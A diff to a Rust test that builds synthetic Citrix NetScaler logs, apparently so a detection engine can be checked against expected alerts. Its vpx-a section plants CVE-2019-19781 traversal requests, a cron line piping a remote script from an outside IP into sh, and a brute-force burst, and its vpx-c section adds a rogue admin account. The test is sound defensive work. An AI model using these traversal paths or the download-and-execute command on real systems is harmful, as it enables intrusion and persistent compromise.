@@ -11,21 +11,30 @@ use chrono::{DateTime, Duration as Span, Utc};
 use common::*;
 
 /// A NetScaler audit line: `FEATURE EVENT seq 0 : body`.
-fn audit(at: DateTime<Utc>, host: &str, seq: u32, feature_event: &str, body: &str) -> String {
-    format!("<134> {} GMT {host} 0-PPE-0 : default {feature_event} {seq} 0 : {body}", at.format("%m/%d/%Y:%H:%M:%S"))
+/// Every builder returns (event time, appliance, line), what the scenario sorts and produces.
+type Line = (DateTime<Utc>, String, String);
+
+fn audit(at: DateTime<Utc>, host: &str, seq: u32, feature_event: &str, body: &str) -> Line {
+    let line = format!(
+        "<134> {} GMT {host} 0-PPE-0 : default {feature_event} {seq} 0 : {body}",
+        at.format("%m/%d/%Y:%H:%M:%S")
+    );
+    (at, host.to_owned(), line)
 }
 
 /// An httpaccess line relayed by syslog with the appliance's name.
-fn access(at: DateTime<Utc>, host: &str, ip: &str, method: &str, path: &str, status: u16) -> String {
-    format!(
+fn access(at: DateTime<Utc>, host: &str, ip: &str, method: &str, path: &str, status: u16) -> Line {
+    let line = format!(
         r#"{} {host} httpd: {ip} - - [{}] "{method} {path} HTTP/1.1" {status} 512 "-" "Mozilla/5.0""#,
         at.format("%Y-%m-%dT%H:%M:%SZ"),
         at.format("%d/%b/%Y:%H:%M:%S +0000")
-    )
+    );
+    (at, host.to_owned(), line)
 }
 
-fn cron(at: DateTime<Utc>, host: &str, user: &str, command: &str) -> String {
-    format!("{} {host} /usr/sbin/cron[4242]: ({user}) CMD ({command})", at.format("%Y-%m-%dT%H:%M:%SZ"))
+fn cron(at: DateTime<Utc>, host: &str, user: &str, command: &str) -> Line {
+    let line = format!("{} {host} /usr/sbin/cron[4242]: ({user}) CMD ({command})", at.format("%Y-%m-%dT%H:%M:%SZ"));
+    (at, host.to_owned(), line)
 }
 
 struct Scenario {
@@ -36,9 +45,9 @@ struct Scenario {
 fn scenario() -> Scenario {
     let start: DateTime<Utc> = "2020-01-10T00:00:00Z".parse().unwrap();
     let hosts = ["vpx-a", "vpx-b", "vpx-c"];
-    let mut lines: Vec<(DateTime<Utc>, String, String)> = Vec::new();
+    let mut lines: Vec<Line> = Vec::new();
     let mut seq = 1000;
-    let mut push = |at: DateTime<Utc>, host: &str, line: String| lines.push((at, host.to_owned(), line));
+    let mut push = |line: Line| lines.push(line);
     // Benign: three days of logins, connections, portal requests and administration, every 20 minutes.
     for (h, host) in hosts.iter().enumerate() {
         for slot in 0..(3 * 24 * 3) {
@@ -47,40 +56,24 @@ fn scenario() -> Scenario {
             let user = format!("user{}", slot % 7);
             let session = 5000 + slot as u32;
             let client = if slot % 2 == 0 { "8.8.8.8" } else { "1.1.1.1" };
-            push(at, host, audit(at, host, seq, "SSLVPN LOGIN", &format!("Context {user}@{client} - SessionId: {session} - User {user} - Client_ip {client} - Nat_ip 10.8.0.{} - Vserver 10.0.0.10:443", slot % 200)));
-            push(
-                at + Span::seconds(20),
-                host,
-                access(at + Span::seconds(20), host, client, "GET", "/vpn/images/AccessGateway.ico", 200),
-            );
-            push(
-                at + Span::seconds(30),
-                host,
-                access(at + Span::seconds(30), host, client, "GET", "/logon/LogonPoint/index.html", 200),
-            );
-            push(
-                at + Span::seconds(40),
-                host,
-                access(at + Span::seconds(40), host, client, "GET", "/vpns/services.html", 200),
-            );
-            push(at + Span::seconds(50), host, audit(at + Span::seconds(50), host, seq + 1, "SSLVPN TCPCONNSTAT", &format!("Context {user}@{client} - SessionId: {session} - User {user} - Client_ip {client} - Nat_ip 10.8.0.1 - Vserver 10.0.0.10:443 - Source {client}:50000 - Destination 10.20.0.5:443 - Start_time \"01/10/2020:00:00:00 GMT\" - End_time \"01/10/2020:00:01:00 GMT\" - Duration 00:01:00  - Total_bytes_send 100 - Total_bytes_recv 200 - Total_compressedbytes_send 0 - Total_compressedbytes_recv 0 - Compression_ratio_send 0.00% - Compression_ratio_recv 0.00% - Access Allowed - Group(s) \"staff\"")));
+            push(audit(at, host, seq, "SSLVPN LOGIN", &format!("Context {user}@{client} - SessionId: {session} - User {user} - Client_ip {client} - Nat_ip 10.8.0.{} - Vserver 10.0.0.10:443", slot % 200)));
+            push(access(at + Span::seconds(20), host, client, "GET", "/vpn/images/AccessGateway.ico", 200));
+            push(access(at + Span::seconds(30), host, client, "GET", "/logon/LogonPoint/index.html", 200));
+            push(access(at + Span::seconds(40), host, client, "GET", "/vpns/services.html", 200));
+            push(audit(at + Span::seconds(50), host, seq + 1, "SSLVPN TCPCONNSTAT", &format!("Context {user}@{client} - SessionId: {session} - User {user} - Client_ip {client} - Nat_ip 10.8.0.1 - Vserver 10.0.0.10:443 - Source {client}:50000 - Destination 10.20.0.5:443 - Start_time \"01/10/2020:00:00:00 GMT\" - End_time \"01/10/2020:00:01:00 GMT\" - Duration 00:01:00  - Total_bytes_send 100 - Total_bytes_recv 200 - Total_compressedbytes_send 0 - Total_compressedbytes_recv 0 - Compression_ratio_send 0.00% - Compression_ratio_recv 0.00% - Access Allowed - Group(s) \"staff\"")));
             if slot % 12 == 0 {
                 // Administrators, from the management network.
-                push(
+                push(audit(
                     at + Span::seconds(55),
                     host,
-                    audit(
-                        at + Span::seconds(55),
-                        host,
-                        seq + 2,
-                        "CLI CMD_EXECUTED",
-                        "User nsroot - Remote_ip 10.0.0.5 - Command \"show ns config\" - Status \"Success\"",
-                    ),
-                );
+                    seq + 2,
+                    "CLI CMD_EXECUTED",
+                    "User nsroot - Remote_ip 10.0.0.5 - Command \"show ns config\" - Status \"Success\"",
+                ));
             }
             if slot % 30 == 7 {
                 // Legitimate root cron jobs.
-                push(at + Span::seconds(58), host, cron(at + Span::seconds(58), host, "root", "   nsfsyncd -p"));
+                push(cron(at + Span::seconds(58), host, "root", "   nsfsyncd -p"));
             }
             seq += 3;
         }
@@ -88,73 +81,41 @@ fn scenario() -> Scenario {
     let t =
         |d: i64, h: i64, m: i64, s: i64| start + Span::days(d) + Span::hours(h) + Span::minutes(m) + Span::seconds(s);
     // Look-alikes: one mistyped password, then a login.
-    push(
+    push(audit(
         t(1, 9, 0, 0),
         "vpx-b",
-        audit(
-            t(1, 9, 0, 0),
-            "vpx-b",
-            1,
-            "AAA LOGIN_FAILED",
-            "User carol - Client_ip 8.8.8.8 - Failure_reason \"Username/Password mismatch\"",
-        ),
-    );
-    push(t(1, 9, 0, 30), "vpx-b", audit(t(1, 9, 0, 30), "vpx-b", 2, "SSLVPN LOGIN", "Context carol@8.8.8.8 - SessionId: 777 - User carol - Client_ip 8.8.8.8 - Nat_ip 10.8.0.9 - Vserver 10.0.0.10:443"));
+        1,
+        "AAA LOGIN_FAILED",
+        "User carol - Client_ip 8.8.8.8 - Failure_reason \"Username/Password mismatch\"",
+    ));
+    push(audit(t(1, 9, 0, 30), "vpx-b", 2, "SSLVPN LOGIN", "Context carol@8.8.8.8 - SessionId: 777 - User carol - Client_ip 8.8.8.8 - Nat_ip 10.8.0.9 - Vserver 10.0.0.10:443"));
     // vpx-a: the CVE-2019-19781 chain, then persistence and a brute force.
-    push(
-        t(1, 10, 0, 0),
-        "vpx-a",
-        access(t(1, 10, 0, 0), "vpx-a", "203.0.113.9", "GET", "/vpn/../vpns/cfg/smb.conf", 200),
-    );
-    push(
-        t(1, 10, 5, 0),
-        "vpx-a",
-        access(t(1, 10, 5, 0), "vpx-a", "203.0.113.9", "POST", "/vpn/../vpns/portal/scripts/newbm.pl", 200),
-    );
-    push(
-        t(1, 10, 6, 0),
-        "vpx-a",
-        access(t(1, 10, 6, 0), "vpx-a", "203.0.113.9", "GET", "/vpn/../vpns/portal/evil.xml", 200),
-    );
-    push(
-        t(1, 10, 30, 0),
-        "vpx-a",
-        cron(t(1, 10, 30, 0), "vpx-a", "nobody", "curl http://62.113.112.33/ci.sh | sh > /dev/null 2>&1"),
-    );
+    push(access(t(1, 10, 0, 0), "vpx-a", "203.0.113.9", "GET", "/vpn/../vpns/cfg/smb.conf", 200));
+    push(access(t(1, 10, 5, 0), "vpx-a", "203.0.113.9", "POST", "/vpn/../vpns/portal/scripts/newbm.pl", 200));
+    push(access(t(1, 10, 6, 0), "vpx-a", "203.0.113.9", "GET", "/vpn/../vpns/portal/evil.xml", 200));
+    push(cron(t(1, 10, 30, 0), "vpx-a", "nobody", "curl http://62.113.112.33/ci.sh | sh > /dev/null 2>&1"));
     for i in 0..12 {
         let at = t(2, 3, 0, i * 20);
-        push(
+        push(audit(
             at,
             "vpx-a",
-            audit(
-                at,
-                "vpx-a",
-                100 + i as u32,
-                "AAA LOGIN_FAILED",
-                "User admin - Client_ip 198.51.100.66 - Failure_reason \"Username/Password mismatch\"",
-            ),
-        );
+            100 + i as u32,
+            "AAA LOGIN_FAILED",
+            "User admin - Client_ip 198.51.100.66 - Failure_reason \"Username/Password mismatch\"",
+        ));
     }
     // vpx-b: only probed (404 through traversal).
-    push(
-        t(1, 11, 0, 0),
-        "vpx-b",
-        access(t(1, 11, 0, 0), "vpx-b", "203.0.113.10", "GET", "/vpn/%2e%2e/vpns/portal/x.xml", 404),
-    );
+    push(access(t(1, 11, 0, 0), "vpx-b", "203.0.113.10", "GET", "/vpn/%2e%2e/vpns/portal/x.xml", 404));
     // vpx-c: a command from outside the management networks, and a hijacked session.
-    push(
+    push(audit(
         t(2, 14, 0, 0),
         "vpx-c",
-        audit(
-            t(2, 14, 0, 0),
-            "vpx-c",
-            1,
-            "GUI CMD_EXECUTED",
-            "User nsroot - Remote_ip 203.0.113.77 - Command \"add system user svc\" - Status \"Success\"",
-        ),
-    );
-    push(t(2, 15, 0, 0), "vpx-c", audit(t(2, 15, 0, 0), "vpx-c", 2, "SSLVPN LOGIN", "Context dave@8.8.8.8 - SessionId: 99999 - User dave - Client_ip 8.8.8.8 - Nat_ip 10.8.0.99 - Vserver 10.0.0.10:443"));
-    push(t(2, 17, 0, 0), "vpx-c", audit(t(2, 17, 0, 0), "vpx-c", 3, "SSLVPN HTTPREQUEST", "Context dave@1.1.1.1 - SessionId: 99999 - 10.0.0.10 User dave : Group(s) staff : Vserver 10.0.0.10:443 - 01/12/2020:17:00:00 GMT : SSO is ON : GET /Citrix/StoreWeb/ - -"));
+        1,
+        "GUI CMD_EXECUTED",
+        "User nsroot - Remote_ip 203.0.113.77 - Command \"add system user svc\" - Status \"Success\"",
+    ));
+    push(audit(t(2, 15, 0, 0), "vpx-c", 2, "SSLVPN LOGIN", "Context dave@8.8.8.8 - SessionId: 99999 - User dave - Client_ip 8.8.8.8 - Nat_ip 10.8.0.99 - Vserver 10.0.0.10:443"));
+    push(audit(t(2, 17, 0, 0), "vpx-c", 3, "SSLVPN HTTPREQUEST", "Context dave@1.1.1.1 - SessionId: 99999 - 10.0.0.10 User dave : Group(s) staff : Vserver 10.0.0.10:443 - 01/12/2020:17:00:00 GMT : SSO is ON : GET /Citrix/StoreWeb/ - -"));
     lines.sort_by_key(|(at, _, _)| *at);
     let expected = [
         ("gw-citrix-cve-2019-19781-probe", "vpx-a"),
